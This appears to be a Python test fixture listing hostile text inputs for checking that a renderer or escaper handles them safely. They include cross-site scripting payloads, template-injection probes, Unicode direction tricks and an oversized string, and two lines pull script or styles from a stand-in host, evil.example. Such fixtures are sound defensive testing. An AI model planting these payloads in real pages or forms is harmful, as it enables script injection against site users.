"""Texts that try to be more than text on a page."""

HOSTILE = [
    "<script>alert(1)</script>",
    "</script><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onclick='alert(1)",
    "</title></style></div></li></ol></article></body></html><h1>mine</h1>",
    "<style>@import url(//evil.example)</style>",
    "<!-- <a href=javascript:alert(1)>",
    "]]><![CDATA[<b>",
    "&lt;b&gt; &amp; &#60;i&#62; &quot",
    "{{ 7 * 7 }} {% raw %} {# #} {{ config }}",
    "\u202egnp.\u202d \u2066x\u200f\u061c \ufeff",
    "a\x00b\x1b[31m\x7f\ufffe",
    "<svg/onload=alert(1)>\r\n\u2028",
    "x" * 1_000_000 + "<b>",
]
